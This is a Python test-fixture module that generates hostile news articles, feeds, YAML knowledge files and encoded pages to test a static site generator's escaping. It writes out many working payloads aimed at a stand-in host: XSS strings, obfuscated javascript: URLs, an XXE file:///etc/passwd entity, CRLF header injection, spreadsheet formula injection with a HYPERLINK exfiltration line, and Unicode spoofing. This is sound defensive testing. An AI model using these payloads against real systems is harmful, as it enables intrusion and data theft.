"""A corpus of hostile articles, notes and knowledge, and two sites made of it: one imported as wire copy in
every form and encoding, one written by hand.

Whatever runs sets `window.__pwned` or asks `evil.example` for something; whatever is let through breaks
the format that it stands in. All of it is made here, so that a new trick is one line."""

import json
import os
import subprocess
from html import escape
from pathlib import Path
from xml.sax.saxutils import escape as xml

RUN = "window.__pwned=1"
EVIL = "https://evil.example"
SITE = "https://uji.example"

# What a text may say wherever a text can stand.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "handler": f"\"><img src=x onerror={RUN}>",
    "single-quote": f"'><svg/onload={RUN}>",
    "end-of-script": f"</script><script>{RUN}</script>",
    "end-of-title": f"</title></textarea></style><script>{RUN}</script>",
    "comment": f"<!--<script>--><script>{RUN}</script>",
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "frame": f"<iframe src={EVIL}/></iframe><object data={EVIL}/></object>",
    "style": f'<link rel=stylesheet href={EVIL}/a.css><style>@import "{EVIL}/b.css"</style>',
    "svg-text": f'</text><a xlink:href="javascript:{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></a><text>',
    "attribute": f'x" onmouseover="{RUN}" autofocus onfocus="{RUN}" style="background:url({EVIL}/c)',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; &quot;&gt; &amp;lt;",
    "template": "{{{title}}} {{>base}} {{#words}}{{/words}} {{=<% %>=}} {{! x }}",
    "entity-file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
}
BREAKS = {
    "calendar": f"Rapat\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:{EVIL}/\r\nSUMMARY:dua",
    "calendar-lines": "Rapat\u2028ATTENDEE:mailto:a@evil.example\u2029X\x85ORGANIZER:x\x0bY\x0cZ",
    "header": "Rapat\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "controls": "a\x01b\x08c\x1b[31md\x7fe\x9bf\ufffeg\uffffh",
}
SPOOFS = {
    "override": "\u202eexe.gpj \u2066satu\u2067dua \u200eLRM\u200f \u202a",
    "zero-width": "Wang\u200b Y\u200di \u2060\ufeff\u00adPutin",
    "homoglyph": "W\u0430ng Y\u0456",
    "combining": "Z" + "\u0301\u0316" * 200,
}
FORMULAS = {
    "equals": f'=HYPERLINK("{EVIL}/?"&A1,"klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
}
# What front matter may hold and what builds; the wire brings all.
LINES = {
    "calendar": f"Rapat\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:{EVIL}/\nSUMMARY:dua",
    "separators": "Rapat\u2028ATTENDEE:mailto:a@evil.example\u2029X",
}
TEXTS = MARKUP | LINES | SPOOFS | {name: text for name, text in FORMULAS.items() if name != "return"}
WIRE = MARKUP | BREAKS | SPOOFS | FORMULAS

# Addresses that run something or lead to another kind of place; `HOLE` is never followed.
LINKS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java\tscript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"%6aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"jav\u00adascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "/\\evil.example/x.png",
    "\\\\evil.example\\x.png",
    "/\t/evil.example/x.png",
    f"{EVIL}/x.png",
    "http:evil.example/x.png",
]


def markdown_tricks() -> str:
    """Each address in every way that CommonMark has for a link or an image."""
    parts = []
    for number, link in enumerate(LINKS):
        parts += [f"[klik]({link})", f"[klik](<{link}>)", f"![gambar](<{link}>)", f"<{link}>", f"![]({link})"]
        parts += [f"[rujukan {number}][r{number}] ![r{number}]", f'[r{number}]: <{link}> "x\\" onclick={RUN}"']
        parts += [f'<a href="{link}">klik</a>', f"<img src='{link}' onerror={RUN}>"]
    parts += [f"{text}\n\n`{text}`\n\n> {text}\n\n    {text}\n\n# {text}" for text in MARKUP.values()]
    parts += [f"```{text}\n{text}\n```" for text in MARKUP.values()]
    return "\n\n".join(parts)


def quoted(value) -> str:
    """YAML that reads back as `value`: JSON, with what YAML wants escaped."""
    text = json.dumps(value, ensure_ascii=False)
    return "".join(f"\\u{ord(each):04x}" if ord(each) in (0x7F, 0xFEFF, 0xFFFE, 0xFFFF, 0x2028, 0x2029) or 0x80 <= ord(each) < 0xA0 else each for each in text)


def write(path: Path, text: str):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode())


def settings(folder: Path):
    """Settings that hold hostile texts too: they are an editor's, and no format may break of them."""
    text = "".join(MARKUP.values())
    write(folder / "simpul.yaml", f"""title: {quoted('Uji ' + text)}
summary: {quoted(text)}
baseURL: {SITE}
publisher: {quoted(text)}
topics: [ukraine]
licence: {{name: {quoted(text)}, url: {quoted('https://uji.example/"><script>')}}}
sources:
  - {{name: Simpul, text: full}}
  - {{name: {quoted(text)}, text: full, url: {quoted("https://uji.example/'><script>")}}}
""")


def front_matter(name: str, text: str, number: int) -> str:
    day = f"2022-03-{number % 28 + 1:02}"
    quoted_text = quoted(text)
    return f"""---
title: {quoted_text}
published: {day}
updated: 2022-04-01
publisher: {quoted_text if number % 2 else 'Simpul'}
dateline: {{city: {quoted_text}, agency: {quoted_text}}}
authors: [{quoted_text}]
editors: [{quoted_text}]
topics: [ukraine]
people:
  - {{name: {quoted_text}, office: {quoted_text}, country: CN}}
  - {{name: {quoted('Wang ' + text)}, office: {quoted_text}, country: CN}}
countries: [CN, US]
events:
  - type: meeting
    status: held
    start: {day}
    city: {quoted_text}
    country: IT
    participants: [{quoted('Wang ' + text)}, Antony Blinken]
    parties: [CN, US]
    topics: [ukraine]
    evidence: {quoted_text}
  - type: meeting
    status: scheduled
    start: 2022-05-{number % 28 + 1:02}
    city: {quoted_text}
    participants: [{quoted('Wang ' + text)}, Sergey Lavrov]
    parties: [CN, RU]
    evidence: {quoted_text}
    resolved:
      - {{office: {quoted_text}, country: RU, person: {quoted_text}, on: {day}}}
claims:
  - {{kind: ordinal, n: 2, event: 0, evidence: {quoted_text}}}
readAlso: [{quoted_text}]
sources:
  - {{name: {quoted_text}, url: {quoted('https://uji.example/' + text)}}}
corrections:
  - {{on: 2022-04-01, text: {quoted_text}}}
---

{text}

{markdown_tricks() if number % 8 == 0 else text}
"""


def knowledge(folder: Path):
    """What is known of people, places, states, bodies and topics, under hostile names and other names."""
    def names(*all):
        """Those that have a letter: others are refused."""
        return ", ".join(quoted(name) for name in all if any(map(str.isalpha, name)))

    people = [f"""- name: {quoted('Wang ' + text)}
  also: [{names(text, 'Tuan ' + text)}]
  terms:
    - {{key: foreign-minister, title: {quoted(text)}, country: CN, from: 2020-01-01}}
""" for text in TEXTS.values()]
    places = [f"- {{name: {quoted(text)}, also: [{quoted('Kota ' + text)}], country: IT}}\n" for text in TEXTS.values()]
    text = "".join(MARKUP.values()) + SPOOFS["override"]
    both = f"{{id: {quoted(text)}, en: {quoted(text)}}}"
    write(folder / "content/knowledge/people.yaml", "".join(people))
    write(folder / "content/knowledge/places.yaml", "".join(places))
    write(folder / "content/knowledge/countries.yaml", f"""- code: CN
  name: {both}
  also: [{quoted(text)}]
  capital: {quoted(text)}
  metonyms: [{quoted(text)}]
""")
    write(folder / "content/knowledge/organisations.yaml", f"- {{code: UN, name: {both}, also: [{quoted(text)}]}}\n")
    write(folder / "content/knowledge/topics.yaml", f"""- id: ukraine
  name: {both}
  slugs: {{id: ukraina, en: ukraine}}
  summary: {both}
  words: [{{phrase: {quoted('ukraina ' + text)}, weight: 3}}]
""")


def notes(folder: Path):
    """A desk's note on an event for each text; which events there are, a build tells."""
    simpul("build", folder)
    events = sorted(path.parent.name for path in (folder / "public/peristiwa").glob("*/index.html"))
    assert len(events) >= len(TEXTS), events
    for (name, text), event in zip(TEXTS.items(), events):
        other = events[0] if event != events[0] else events[1]
        write(folder / f"content/events/{event}.md", f"""---
title: {quoted(text)}
city: {quoted(text)}
link:
  - {{event: {quoted(other)}, kind: stated-follow-up, reason: {quoted(text)}}}
---

{text}

{markdown_tricks() if name == 'script' else text}
""")


def by_hand(folder: Path) -> Path:
    """A site of Markdown that somebody wrote: each text in every place that takes one."""
    settings(folder)
    knowledge(folder)
    for number, (name, text) in enumerate(TEXTS.items()):
        path = folder / f"content/articles/2022/2022-03-{number % 28 + 1:02}-{name}.md"
        write(path, front_matter(name, text, number))
    joined = "".join(MARKUP.values())
    write(folder / "content/articles/2022/2022-03-30-ditarik.md", f"""---
title: {quoted(joined)}
published: 2022-03-30
retracted: {{on: 2022-03-31, reason: {quoted(joined + SPOOFS['override'])}}}
---

Isi.
""")
    write(folder / "content/pages/tentang.md", f"---\ntitle: {quoted(joined)}\n---\n\n{markdown_tricks()}\n")
    notes(folder)
    return folder


def paragraphs(text: str) -> list[str]:
    return [
        f"Beijing (Simpul) - Menteri Luar Negeri China Wang Yi bertemu Menteri Luar Negeri Amerika Serikat Antony Blinken di Roma, Senin (14/3/2022). {text}",
        f"Wang Yi mengatakan {text} kepada para wartawan sesudah pertemuan itu, kata juru bicara kementerian.",
        f"Keduanya akan bertemu lagi di Jenewa pada April 2022. [klik]({LINKS[0]}) ![x]({EVIL}/x.png) {text}",
    ]


def as_page(title: str, text: str) -> str:
    links = "".join(f'<p>Menurut keterangan itu <a href="{escape(each)}">tautan yang panjang</a> dapat dibuka oleh pembaca.</p>' for each in LINKS)
    body = "".join(f"<p>{escape(each)}</p>" for each in paragraphs(text))
    live = "".join(MARKUP.values())
    data = json.dumps({"@type": "NewsArticle", "headline": title, "datePublished": "2022-03-14", "author": {"@type": "Person", "name": text}, "url": LINKS[0]})
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>{escape(title)}</title>
<meta property="og:title" content="{escape(title)}"><meta property="og:site_name" content="{escape(text)}">
<meta property="og:url" content="javascript:{RUN}"><meta property="article:published_time" content="2022-03-14">
<link rel="canonical" href="javascript:{RUN}"><script type="application/ld+json">{data.replace('<', chr(92) + 'u003c')}</script></head>
<body onload="{RUN}"><article><h1>{escape(title)}</h1>{body}{links}<p>{live}</p></article></body></html>"""


def record(title: str, text: str, number: int) -> dict:
    return {"title": title, "text": "\n\n".join(paragraphs(text)), "author": text, "date_publish": "2022-03-14", "url": LINKS[number % len(LINKS)], "source_domain": text}


def rss_item(title: str, text: str, number: int) -> str:
    body = "".join(f"<p>{escape(each)}</p>" for each in paragraphs(text)) + "".join(MARKUP.values()).replace("]]>", "")
    return f"""<item><title>{xml(title)}</title><link>{xml(LINKS[number % len(LINKS)])}</link><guid>{xml(text)}{number}</guid>
<dc:creator>{xml(text)}</dc:creator><pubDate>Mon, 14 Mar 2022 08:00:00 +0700</pubDate><content:encoded><![CDATA[{body}]]></content:encoded></item>"""


def atom_entry(title: str, text: str, number: int) -> str:
    """Markup as text, as HTML and as XHTML, which is part of the document."""
    body = "".join(f"<p>{escape(each)}</p>" for each in paragraphs(text)) + "".join(MARKUP.values())
    whole = "".join(f"<p>{xml(each)}</p>" for each in paragraphs(text))
    live = f'<script>{RUN}</script><img src="{EVIL}/x.png" onerror="{RUN}"/><a href="{xml(LINKS[number % len(LINKS)])}">klik</a>'
    xhtml = f'<div xmlns="http://www.w3.org/1999/xhtml">{whole}{live}</div>'
    content = f'<content type="xhtml">{xhtml}</content>' if number % 3 == 0 else f'<content type="html">{xml(body)}</content>'
    kind = ["text", "html"][number % 2]
    attribute = {'"': "&quot;"}
    return f"""<entry><id>urn:x:{number}</id><title type="{kind}">{xml(title)}</title>
<link rel="alternate" href="{xml(LINKS[number % len(LINKS)], attribute)}"/><published>2022-03-14T08:00:00+07:00</published>
<author><name>{xml(text)}</name><uri>{xml(LINKS[0])}</uri></author><category term="{xml(text, attribute)}"/>
<summary type="html">{xml(text)}</summary>{content}</entry>"""


def json_item(title: str, text: str, number: int) -> dict:
    body = "".join(f"<p>{escape(each)}</p>" for each in paragraphs(text)) + "".join(MARKUP.values())
    return {"id": f"{text}{number}", "url": LINKS[number % len(LINKS)], "title": title, "content_html": body, "summary": text,
            "date_published": "2022-03-14T08:00:00+07:00", "authors": [{"name": text, "url": LINKS[0]}], "tags": [text],
            "image": f"{EVIL}/x.png"}  # fmt: skip


def printable(text: str) -> str:
    """Without what XML can't hold at all."""
    return "".join(each for each in text if each in "\t\n\r" or (" " <= each and each not in "\ufffe\uffff"))


def encoded(raw: Path):
    """The same tricks in other encodings, in which the signs of markup are other bytes, or seem to be."""
    text = MARKUP["script"] + MARKUP["handler"] + SPOOFS["override"]
    copy = f"Wang Yi Temui Blinken dalam UTF-16 {text}\n\n" + "\n\n".join(paragraphs(text))
    for order in ("le", "be"):
        mark = {"le": b"\xff\xfe", "be": b"\xfe\xff"}[order]
        (raw / f"2022-03-14-utf-16-{order}.txt").write_bytes(mark + copy.replace("UTF-16", f"UTF-16 {order}").encode(f"utf-16-{order}"))
    page = as_page(f"Sandi {MARKUP['handler']} caf\u00e9", MARKUP["script"])
    for charset in ("iso-8859-1", "windows-1252", "utf-7", "shift_jis"):
        head = page.replace('<meta charset="utf-8">', f'<meta charset="{charset}">').replace("Sandi", f"Sandi {charset}")
        data = head.encode("utf-7" if charset == "utf-7" else "latin-1", "xmlcharrefreplace")
        (raw / f"sandi-{charset}.html").write_bytes(data)
    # Longer than it has to be, cut off, and half of a pair: no UTF-8, whatever a lax reader makes of it.
    for name, data in {"panjang": b"\xc0\xbcscript\xc0\xbe", "putus": b"akhir \xf0\x9f", "separuh": b"\xed\xa0\xbcx"}.items():
        (raw / f"2022-03-14-{name}.txt").write_bytes(b"Wang Yi Temui Blinken " + data + b"\n\n" + paragraphs("")[0].encode())


def by_wire(folder: Path) -> Path:
    """A site of what came in over the wire, in each form that import reads, and imported."""
    settings(folder)
    raw = folder / "content/raw"
    for number, (name, text) in enumerate(WIRE.items()):
        title = f"Wang Yi Temui Blinken {text}"
        write(raw / f"2022-03-14-{name}.txt", f"{title}\n\n" + "\n\n".join(paragraphs(text)) + f"\n\nPenulis: {text}\n")
        write(raw / f"halaman-{name}.html", as_page(f"Halaman {title}", text))
    entries = [(f"{name} Wang Yi Temui Blinken {text}", text, number) for number, (name, text) in enumerate(WIRE.items())]
    write(raw / "catatan.json", json.dumps([record(f"Catatan {title}", text, number) for title, text, number in entries]))
    items = "".join(rss_item(f"Umpan {printable(title)}", printable(text), number) for title, text, number in entries)
    space = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    write(raw / "umpan.xml", f'<?xml version="1.0"?><rss version="2.0" {space}><channel><title>{xml(MARKUP["script"])}</title>{items}</channel></rss>')
    kept = [(f"{printable(title)}", printable(text), number) for title, text, number in entries]
    atom = "".join(atom_entry(f"Atom {title}", text, number) for title, text, number in kept if number % 2 == 0)
    write(raw / "umpan-atom.xml", f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title type="html">{xml(MARKUP["script"])}</title>{atom}</feed>')
    items = [json_item(f"JSON {title}", text, number) for title, text, number in entries if number % 2]
    write(raw / "umpan-json.json", json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": MARKUP["script"], "items": items}))
    encoded(raw)
    write(raw / "2022-03-14-nama <script>'\"&{{x}}\u202e=1.txt", "Wang Yi Temui Blinken di Roma\n\n" + "\n\n".join(paragraphs("")))
    # What can't be read is told and makes the run end with an error; the rest is there.
    simpul("import", folder, may_fail=True)
    return folder


def simpul(command: str, folder: Path, *more: str, may_fail=False) -> subprocess.CompletedProcess:
    run = subprocess.run([os.environ["SIMPUL"], command, "--site", folder, *more], capture_output=True, text=True)
    assert run.returncode in ((0, 1) if may_fail else (0,)), run.stderr[-4000:]
    return run
